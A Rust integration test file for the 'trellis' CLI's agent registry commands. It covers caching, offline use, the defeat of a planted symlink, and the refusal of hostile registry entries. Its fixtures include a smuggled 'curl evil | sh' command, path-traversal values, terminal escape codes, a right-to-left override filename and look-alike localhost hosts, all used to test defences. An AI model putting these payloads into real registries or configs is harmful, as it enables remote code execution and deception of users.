//! The ACP Registry (issue 28, first part): `trellis agents list` and `info` against a
//! snapshot of the real registry (assembled from its `agent.json` files as its build does),
//! and against an index served on loopback — cached with its validators, asked for again
//! conditionally, used offline and said to be, hostile entries refused one by one, and the
//! cache never written through a planted link.

use std::io::{BufReader, Read, Write};
use std::net::TcpListener;
use std::path::Path;
use std::process::{Command, Output, Stdio};
use std::sync::{Arc, Mutex};

fn trellis(home: &Path, registry: &str, args: &[&str]) -> Output {
    let config = home.join("config/trellis");
    std::fs::create_dir_all(&config).unwrap();
    std::fs::write(
        config.join("config.toml"),
        format!("[registry]\nurl = {registry:?}\n"),
    )
    .unwrap();
    Command::new(env!("CARGO_BIN_EXE_trellis"))
        .args(args)
        .env("XDG_CONFIG_HOME", home.join("config"))
        .env("XDG_DATA_HOME", home.join("data"))
        .stdin(Stdio::null())
        .output()
        .unwrap()
}

fn listed(o: &Output) -> serde_json::Value {
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    serde_json::from_slice(&o.stdout).unwrap()
}

fn fixture() -> String {
    concat!(env!("CARGO_MANIFEST_DIR"), "/../../fixtures/registry").to_string()
}

#[test]
fn the_real_registry_snapshot_is_read_entry_by_entry() {
    let home = tempfile::tempdir().unwrap();
    let v = listed(&trellis(
        home.path(),
        &fixture(),
        &["agents", "list", "--json"],
    ));
    let agents = v["agents"].as_array().unwrap();
    let refused = v["refused"].as_array().unwrap();
    // Every entry the registry's build would publish is accounted for, read or refused.
    let published = std::fs::read_dir(fixture())
        .unwrap()
        .flatten()
        .filter(|e| !e.file_name().to_string_lossy().starts_with('_'))
        .count();
    assert_eq!(agents.len() + refused.len(), published, "{v}");
    assert!(refused.is_empty(), "{refused:?}");
    let fx = agents.iter().find(|a| a["id"] == "fx").unwrap();
    assert_eq!(fx["distribution"]["binary"]["linux-x86_64"]["cmd"], "./fx");
    assert_eq!(
        fx["distribution"]["binary"]["linux-x86_64"]["sha256"],
        "5a2a5e188381c7f63d4d9b705bc5968e9d5cb94e1fad696dcae988474e00d124"
    );
    let hermes = agents.iter().find(|a| a["id"] == "hermes-agent").unwrap();
    assert_eq!(
        hermes["distribution"]["npx"]["package"],
        "@nousresearch/hermes-agent"
    );
    assert_eq!(hermes["distribution"]["npx"]["version"], "0.20.2");
    let gptme = agents.iter().find(|a| a["id"] == "gptme").unwrap();
    assert_eq!(gptme["distribution"]["uvx"]["package"], "gptme-acp");
    // The table and one agent in full.
    let o = trellis(home.path(), &fixture(), &["agents", "list"]);
    let table = String::from_utf8_lossy(&o.stdout);
    assert!(
        table
            .lines()
            .any(|l| l.starts_with("gemini ") && l.contains("npx")),
        "{table}"
    );
    let o = trellis(home.path(), &fixture(), &["agents", "info", "fx"]);
    assert!(String::from_utf8_lossy(&o.stdout).contains("sha256 5a2a5e18"));
    let o = trellis(home.path(), &fixture(), &["agents", "info", "nope"]);
    assert!(!o.status.success());
    assert!(String::from_utf8_lossy(&o.stderr).contains("no agent nope"));
}

/// A registry served on loopback: each request's `If-None-Match`, and its answers.
struct Served {
    url: String,
    asked: Arc<Mutex<Vec<Option<String>>>>,
    body: Arc<Mutex<String>>,
    up: Arc<Mutex<bool>>,
}

fn serve(body: &str) -> Served {
    let l = TcpListener::bind("127.0.0.1:0").unwrap();
    let url = format!("http://{}/registry.json", l.local_addr().unwrap());
    let asked: Arc<Mutex<Vec<Option<String>>>> = Arc::default();
    let body = Arc::new(Mutex::new(body.to_string()));
    let up = Arc::new(Mutex::new(true));
    let (a, b, u) = (asked.clone(), body.clone(), up.clone());
    std::thread::spawn(move || {
        for s in l.incoming().flatten() {
            let mut r = BufReader::new(s.try_clone().unwrap());
            let mut w = s;
            let Some(asked) = crate::registry_kit::read_request(&mut r) else {
                continue;
            };
            let etag = asked
                .headers
                .into_iter()
                .find(|(k, _)| k == "if-none-match")
                .map(|(_, v)| v);
            a.lock().unwrap().push(etag.clone());
            if !*u.lock().unwrap() {
                let _ = w.write_all(b"HTTP/1.1 503 Down\r\nContent-Length: 0\r\n\r\n");
                continue;
            }
            let text = b.lock().unwrap().clone();
            let tag = format!("\"{}\"", text.len());
            let reply = if etag.as_deref() == Some(tag.as_str()) {
                "HTTP/1.1 304 Not Modified\r\nContent-Length: 0\r\n\r\n".to_string()
            } else {
                format!(
                    "HTTP/1.1 200 OK\r\nETag: {tag}\r\nContent-Length: {}\r\n\r\n{text}",
                    text.len()
                )
            };
            let _ = w.write_all(reply.as_bytes());
            let mut rest = Vec::new();
            let _ = r.read_to_end(&mut rest);
        }
    });
    Served {
        url,
        asked,
        body,
        up,
    }
}

#[test]
fn a_served_index_is_cached_asked_again_conditionally_and_used_offline() {
    let good = serde_json::json!({"version": "1.0.0", "agents": [
        {"id": "local", "name": "Local", "version": "2.0.0", "description": "an agent on this machine",
         "distribution": {"npx": {"package": "local-agent@2.0.0", "args": ["--acp"]}}},
        {"id": "red", "name": "x", "version": "1", "description": "an agent\u{1b}[31m in red",
         "distribution": {"npx": {"package": "x"}}},
        {"id": "../climb", "name": "x", "version": "1", "description": "d",
         "distribution": {"npx": {"package": "x"}}},
        {"id": "shell", "name": "x", "version": "1", "description": "d",
         "distribution": {"npx": {"package": "x", "cmd": "x && curl evil | sh"}}},
        {"id": "escape", "name": "x", "version": "1", "description": "d",
         "distribution": {"binary": {"linux-x86_64": {"archive": "https://e.org/x.tgz", "cmd": "../../../bin/sh"}}}}
    ]})
    .to_string();
    let s = serve(&good);
    let home = tempfile::tempdir().unwrap();
    // A link planted where the cache goes: replaced, its target untouched.
    let cache = home.path().join("data/trellis/registry");
    std::fs::create_dir_all(&cache).unwrap();
    let victim = home.path().join("victim");
    std::fs::write(&victim, "keep me").unwrap();
    std::os::unix::fs::symlink(&victim, cache.join("registry.json")).unwrap();

    let o = trellis(home.path(), &s.url, &["agents", "list", "--json"]);
    let v = listed(&o);
    let stderr = String::from_utf8_lossy(&o.stderr);
    assert_eq!(v["agents"].as_array().unwrap().len(), 1, "{v}");
    assert_eq!(v["refused"].as_array().unwrap().len(), 4, "{v}");
    for why in [
        "holds control characters",
        "is not lowercase",
        "is not a command name",
        "not a path inside the archive",
    ] {
        assert!(stderr.contains(why), "{why}: {stderr}");
    }
    assert_eq!(std::fs::read_to_string(&victim).unwrap(), "keep me");
    assert!(
        !std::fs::symlink_metadata(cache.join("registry.json"))
            .unwrap()
            .is_symlink()
    );
    // What reaches the terminal is harmless.
    let o = trellis(home.path(), &s.url, &["agents", "list"]);
    assert!(!String::from_utf8_lossy(&o.stdout).contains('\u{1b}'));
    assert!(!String::from_utf8_lossy(&o.stderr).contains('\u{1b}'));
    // Asked again with its validator: not modified, the cached copy serves.
    let asked = s.asked.lock().unwrap().clone();
    assert_eq!(asked[0], None);
    assert_eq!(
        asked[1].as_deref(),
        Some(format!("\"{}\"", good.len()).as_str())
    );
    // Offline: the cached copy, said to be.
    *s.up.lock().unwrap() = false;
    let o = trellis(home.path(), &s.url, &["agents", "list", "--json"]);
    let v = listed(&o);
    assert_eq!(v["agents"][0]["id"], "local");
    assert!(
        String::from_utf8_lossy(&o.stderr).contains("the registry as cached"),
        "{}",
        String::from_utf8_lossy(&o.stderr)
    );
    // A broken index never replaces a good copy.
    *s.up.lock().unwrap() = true;
    *s.body.lock().unwrap() = "{\"agents\": 7}".into();
    let v = listed(&trellis(home.path(), &s.url, &["agents", "list", "--json"]));
    assert_eq!(v["agents"][0]["id"], "local");
    // Another registry's address does not get this one's copy.
    let other = format!("{}?other", s.url);
    *s.up.lock().unwrap() = false;
    let o = trellis(home.path(), &other, &["agents", "list"]);
    assert!(!o.status.success());
    assert!(String::from_utf8_lossy(&o.stderr).contains("no cached copy"));
}

/// Hostile entries, as an attacker would write them (issue 45, items 1, 2, 4): a package
/// starting with a multi-byte character (it panicked), archives on hosts that only start
/// like this machine's, a dist-tag where a pin goes, a description that reorders the
/// screen. Each is refused or shown harmlessly, the good entry listed; an index over plain
/// http from another machine is refused unless the config accepts it, in words.
#[test]
fn hostile_entries_are_refused_one_by_one_and_shown_harmlessly() {
    let home = tempfile::tempdir().unwrap();
    let index = serde_json::json!({"version": "1", "agents": [
        {"id": "multibyte", "name": "M", "version": "1.0.0", "description": "d",
         "distribution": {"npx": {"package": "éa"}}},
        {"id": "prefix-host", "name": "P", "version": "1.0.0", "description": "d",
         "distribution": {"binary": {"linux-x86_64": {"archive": "http://localhost.evil.example/a.tgz", "cmd": "a"},
                                     "linux-aarch64": {"archive": "http://localhost.evil.example/a.tgz", "cmd": "a"},
                                     "darwin-aarch64": {"archive": "http://localhost.evil.example/a.tgz", "cmd": "a"},
                                     "darwin-x86_64": {"archive": "http://localhost.evil.example/a.tgz", "cmd": "a"}}}},
        {"id": "tagged", "name": "T", "version": "1.0.0", "description": "d",
         "distribution": {"npx": {"package": "loose@latest"}}},
        {"id": "trojan", "name": "Trojan", "version": "1.0.0",
         "description": "safe\u{202E}txt.exe",
         "distribution": {"npx": {"package": "trojan@1.0.0"}}},
        {"id": "good", "name": "Good", "version": "2.0.0", "description": "fine",
         "distribution": {"npx": {"package": "good@2.0.0"}}}
    ]});
    let file = home.path().join("registry.json");
    std::fs::write(&file, index.to_string()).unwrap();
    let o = trellis(home.path(), file.to_str().unwrap(), &["agents", "list"]);
    let out = String::from_utf8_lossy(&o.stdout);
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(o.status.success(), "{err}");
    assert!(out.contains("good"), "{out}");
    for (id, why) in [
        ("multibyte", "not a package name"),
        ("prefix-host", "not an https address"),
        ("tagged", "`latest` is not a version"),
    ] {
        assert!(
            err.lines()
                .any(|l| l.contains(&format!("entry {id} refused")) && l.contains(why)),
            "{id}: {err}"
        );
    }
    assert!(
        !out.contains('\u{202E}'),
        "the override is not printed: {out}"
    );
    assert!(out.contains("<U+202E>"), "it is shown: {out}");
    // Looking a name up in that index does not panic either.
    let o = trellis(
        home.path(),
        file.to_str().unwrap(),
        &["run", "--agent", "zz-not-an-agent", "--prompt", "x"],
    );
    assert_eq!(
        o.status.code(),
        Some(2),
        "{}",
        String::from_utf8_lossy(&o.stderr)
    );
    // Plain http from another machine: refused before anything is asked of it.
    let o = trellis(
        home.path(),
        "http://192.0.2.1/registry.json",
        &["agents", "list"],
    );
    let err = String::from_utf8_lossy(&o.stderr);
    assert_ne!(o.status.code(), Some(0));
    assert!(
        err.contains("not this machine") && err.contains("unverified_http"),
        "{err}"
    );
}
